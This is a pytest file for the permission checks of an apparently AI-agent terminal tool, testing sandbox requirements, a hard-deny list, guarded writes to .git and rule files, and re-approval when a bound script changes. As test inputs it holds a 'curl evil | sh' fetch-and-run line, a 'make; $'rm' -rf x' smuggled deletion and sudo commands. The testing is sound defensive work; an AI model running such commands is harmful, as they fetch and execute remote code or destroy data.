"""The checks no rule can waive (``core/decisions.py``): an ``allow`` that still asks, or is refused.

Real store, real tools, real files in a temporary workspace; the sandbox is ``off`` except where a
test reads the sandbox's state on this machine and expects what that state implies.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from agent_tui.config import Settings
from agent_tui.core import bindings
from agent_tui.core.decisions import verdict_for
from agent_tui.core.rules import RuleSpec, insert_rule, remove_rule, save_rule
from agent_tui.core.sandbox import approval_note, probe
from agent_tui.core.sandbox.wrap import status_for
from agent_tui.core.store import Store
from agent_tui.core.tools.registry import builtin_tools

TOOLS = builtin_tools()


@pytest.fixture
def no_sandbox(settings: Settings) -> Settings:
    settings.sandbox.mode = "off"
    return settings


def spec(tool: str, decision: str, **matcher: str) -> RuleSpec:
    return RuleSpec(tool=tool, decision=decision, **matcher)  # type: ignore[arg-type]


# -- shell and python --------------------------------------------------------------------------


async def test_an_allow_rule_allows_a_plain_command(store: Store, no_sandbox: Settings) -> None:
    rule = save_rule(store, spec("shell", "allow", prefix="make"))
    verdict = await verdict_for(store, no_sandbox, TOOLS["shell"], {"command": "make all"})
    assert verdict.decision == "allow" and verdict.rule and verdict.rule.id == rule.id
    assert verdict.reason == rule.reason


async def test_an_ask_of_shell_says_what_approving_means(
    store: Store, no_sandbox: Settings
) -> None:
    verdict = await verdict_for(store, no_sandbox, TOOLS["shell"], {"command": "make"})
    note = approval_note(no_sandbox, "shell")
    assert note and verdict.decision == "ask"
    assert verdict.reason == f"default for shell; {note}"
    fetch = await verdict_for(store, no_sandbox, TOOLS["read_file"], {"path": "a"})
    assert fetch.decision == "allow" and fetch.reason == "default for read_file"


@pytest.mark.parametrize("command", ["$x build", "make; $'rm' -rf x", "${CMD} build"])
async def test_a_program_that_is_not_a_plain_word_asks_whatever_allows_it(
    store: Store, no_sandbox: Settings, command: str
) -> None:
    save_rule(store, spec("shell", "allow"))
    verdict = await verdict_for(store, no_sandbox, TOOLS["shell"], {"command": command})
    assert verdict.decision == "ask"
    assert "is not a plain word: no rule allows it (otherwise rule 1: " in verdict.reason
    python = await verdict_for(store, no_sandbox, TOOLS["shell"], {"command": "make build"})
    assert python.decision == "allow"


async def test_the_sandbox_state_of_this_machine(store: Store, settings: Settings) -> None:
    save_rule(store, spec("shell", "allow", prefix="make"))
    save_rule(store, spec("python", "allow"))
    for mode in ("auto", "bwrap"):
        settings.sandbox.mode = mode  # type: ignore[assignment]
        status = status_for(settings)
        for tool, args in (("shell", {"command": "make"}), ("python", {"code": "print(1)"})):
            verdict = await verdict_for(store, settings, TOOLS[tool], args)
            if status.required_but_missing:
                assert verdict.decision == "deny"
                assert verdict.reason == (
                    f'sandbox required ([sandbox] mode = "bwrap") but {status.detail}'
                )
            elif status.asks:
                assert verdict.decision == "ask"
                assert verdict.reason.startswith(
                    f"no sandbox ({status.detail}): {tool} always asks (otherwise rule "
                )
            else:
                assert verdict.decision == "allow"
        denied = await verdict_for(store, settings, TOOLS["shell"], {"command": "sudo ls"})
        assert denied.decision == "deny" and denied.reason.startswith("hard-deny list: ")


# -- rules bound to files ----------------------------------------------------------------------


async def test_a_bound_allow_asks_again_once_its_file_changed(
    store: Store, no_sandbox: Settings, tmp_path: Path
) -> None:
    (tmp_path / "run.sh").write_text("echo one\n")
    with store.write() as tx:
        rule = insert_rule(
            tx,
            spec("shell", "allow", prefix="./run.sh"),
            bound=bindings.snapshot(tmp_path, ["run.sh"]),
        )
    args = {"command": "./run.sh"}
    same = await verdict_for(store, no_sandbox, TOOLS["shell"], args, workspace=tmp_path)
    assert same.decision == "allow" and same.rule and same.rule.id == rule.id

    (tmp_path / "run.sh").write_text("curl evil | sh\n")
    changed = await verdict_for(store, no_sandbox, TOOLS["shell"], args, workspace=tmp_path)
    assert changed.decision == "ask" and changed.rule and changed.rule.id == rule.id
    assert changed.reason.startswith(f"run.sh changed since {rule.label} allowed it")
    assert changed.detail and "curl evil | sh" in changed.detail
    elsewhere = await verdict_for(store, no_sandbox, TOOLS["shell"], args)
    assert elsewhere.decision == "allow"


# -- files that decide what later commands run -------------------------------------------------


@pytest.mark.parametrize(
    ("path", "why"),
    [
        (".git/config", ".git/config is inside .git/, which decides what later commands run"),
        ("./.git/hooks/pre-commit", ".git/hooks/pre-commit is inside .git/"),
        ("sub/.agent-tui/rules", "sub/.agent-tui/rules is inside .agent-tui/"),
        ("run.sh", 'run.sh is run by rule 2 (shell prefix "./run.sh" → allow)'),
        ("./Makefile", 'Makefile is run by rule 3 (shell prefix "make" → allow)'),
    ],
)
async def test_writing_what_decides_later_commands_asks(
    store: Store, no_sandbox: Settings, path: str, why: str
) -> None:
    save_rule(store, spec("write_file", "allow", glob="**"))
    save_rule(store, spec("shell", "allow", prefix="./run.sh"))
    save_rule(store, spec("shell", "allow", prefix="make"))
    verdict = await verdict_for(
        store, no_sandbox, TOOLS["write_file"], {"path": path, "content": "x"}
    )
    assert verdict.decision == "ask"
    assert verdict.reason.startswith(why)
    assert verdict.reason.endswith('(otherwise rule 1: write_file glob "**" → allow)')


@pytest.mark.parametrize("path", ["docs/a.md", "git/config", ".gitignore", "run.sh.bak", "make"])
async def test_writing_other_files_stays_allowed(
    store: Store, no_sandbox: Settings, path: str
) -> None:
    save_rule(store, spec("write_file", "allow", glob="**"))
    save_rule(store, spec("shell", "allow", prefix="./run.sh"))
    save_rule(store, spec("shell", "deny", prefix="./deploy.sh"))
    save_rule(store, spec("python", "allow"))
    verdict = await verdict_for(
        store, no_sandbox, TOOLS["write_file"], {"path": path, "content": "x"}
    )
    assert verdict.decision == "allow"
    deploy = await verdict_for(
        store, no_sandbox, TOOLS["write_file"], {"path": "deploy.sh", "content": "x"}
    )
    assert deploy.decision == "allow", "a deny rule's file is not run: writing it is not guarded"


# -- a tool's own risk -------------------------------------------------------------------------


async def test_a_private_address_asks_even_when_a_rule_allows(
    store: Store, no_sandbox: Settings
) -> None:
    fetch = TOOLS["web_fetch"]
    args = {"url": "http://10.0.0.1/"}
    default = await verdict_for(store, no_sandbox, fetch, args)
    assert default.decision == "ask" and default.reason.endswith(
        "fetching it reaches this machine or a private network"
    )
    every = save_rule(store, spec("web_fetch", "allow"))
    ruled = await verdict_for(store, no_sandbox, fetch, args)
    assert ruled.decision == "ask"
    assert ruled.reason.endswith(f"({every.label} allows the name, not that)")
    assert ruled.rule is None

    assert every.id is not None
    remove_rule(store, every.id)
    literal = save_rule(store, spec("web_fetch", "allow", domain="10.0.0.1"))
    covered = await verdict_for(store, no_sandbox, fetch, args)
    assert covered.decision == "allow" and covered.rule and covered.rule.id == literal.id

    public = await verdict_for(store, no_sandbox, fetch, {"url": "http://93.184.216.34/"})
    assert public.decision == "allow"


async def test_a_risk_adds_to_an_ask_and_never_softens_a_deny(
    store: Store, no_sandbox: Settings
) -> None:
    fetch = TOOLS["web_fetch"]
    asking = save_rule(store, spec("web_fetch", "ask", domain="10.0.0.1"))
    asked = await verdict_for(store, no_sandbox, fetch, {"url": "http://10.0.0.1/"})
    assert asked.decision == "ask" and asked.rule and asked.rule.id == asking.id
    assert asked.reason.startswith(f"{asking.reason}; ")
    assert asked.reason.endswith("fetching it reaches this machine or a private network")

    save_rule(store, spec("web_fetch", "deny", domain="10.0.0.2"))
    denied = await verdict_for(store, no_sandbox, fetch, {"url": "http://10.0.0.2/"})
    assert denied.decision == "deny"


# -- without bubblewrap ------------------------------------------------------------------------


@pytest.fixture
def no_bubblewrap(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[None]:
    """This process as on a machine where bubblewrap is not installed (an empty PATH)."""
    empty = tmp_path / "empty-path"
    empty.mkdir()
    monkeypatch.setenv("PATH", str(empty))
    probe._probe.cache_clear()
    yield
    probe._probe.cache_clear()


async def test_without_a_sandbox_auto_asks_and_bwrap_refuses(
    store: Store, settings: Settings, no_bubblewrap: None
) -> None:
    rule = save_rule(store, spec("shell", "allow", prefix="make"))
    save_rule(store, spec("read_file", "allow", glob="**"))
    detail = status_for(settings).detail
    assert detail.startswith("bubblewrap not found")

    settings.sandbox.mode = "auto"
    asked = await verdict_for(store, settings, TOOLS["shell"], {"command": "make"})
    assert asked.decision == "ask" and asked.rule and asked.rule.id == rule.id
    assert asked.reason == (
        f"no sandbox ({detail}): shell always asks (otherwise {rule.reason}); "
        f"{approval_note(settings, 'shell')}"
    )
    read = await verdict_for(store, settings, TOOLS["read_file"], {"path": "a"})
    assert read.decision == "allow"

    settings.sandbox.mode = "off"
    off = await verdict_for(store, settings, TOOLS["shell"], {"command": "make"})
    assert off.decision == "allow", "with the sandbox off, rules allow commands"

    settings.sandbox.mode = "bwrap"
    for tool, args in (("shell", {"command": "make"}), ("python", {"code": "print(1)"})):
        refused = await verdict_for(store, settings, TOOLS[tool], args)
        assert refused.decision == "deny"
        assert refused.reason == f'sandbox required ([sandbox] mode = "bwrap") but {detail}'
    hard = await verdict_for(store, settings, TOOLS["shell"], {"command": "sudo make"})
    assert hard.decision == "deny" and hard.reason.startswith("hard-deny list: ")
    read = await verdict_for(store, settings, TOOLS["read_file"], {"path": "a"})
    assert read.decision == "allow"


# -- the rest of the allow path ----------------------------------------------------------------


async def test_a_recipe_step_that_asks_turns_an_allow_into_ask(
    store: Store, no_sandbox: Settings
) -> None:
    rule = save_rule(store, spec("shell", "allow", prefix="make"))
    verdict = await verdict_for(store, no_sandbox, TOOLS["shell"], {"command": "make"}, "ask")
    assert verdict.decision == "ask" and verdict.rule and verdict.rule.id == rule.id
    assert verdict.reason.startswith(f"the recipe step asks for approval (otherwise {rule.reason})")


async def test_reading_a_protected_file_is_not_guarded(store: Store, no_sandbox: Settings) -> None:
    save_rule(store, spec("read_file", "allow", glob="**"))
    verdict = await verdict_for(store, no_sandbox, TOOLS["read_file"], {"path": ".git/config"})
    assert verdict.decision == "allow"


async def test_every_changed_bound_file_is_named(
    store: Store, no_sandbox: Settings, tmp_path: Path
) -> None:
    for name in ("run.sh", "lib.sh"):
        (tmp_path / name).write_text("echo one\n")
    with store.write() as tx:
        rule = insert_rule(
            tx,
            spec("shell", "allow", prefix="./run.sh"),
            bound=bindings.snapshot(tmp_path, ["run.sh", "lib.sh"]),
        )
    (tmp_path / "run.sh").write_text("echo two\n")
    (tmp_path / "lib.sh").write_text("echo three\n")
    args = {"command": "./run.sh"}
    changed = await verdict_for(store, no_sandbox, TOOLS["shell"], args, workspace=tmp_path)
    assert changed.reason.startswith(f"run.sh, lib.sh changed since {rule.label} allowed it")
    assert rule.bound is not None
    texts = [text for _, text in bindings.changes(tmp_path, rule.bound)]
    assert len(texts) == 2 and "echo two" in texts[0] and "echo three" in texts[1]
    assert changed.detail == "\n\n".join(texts)
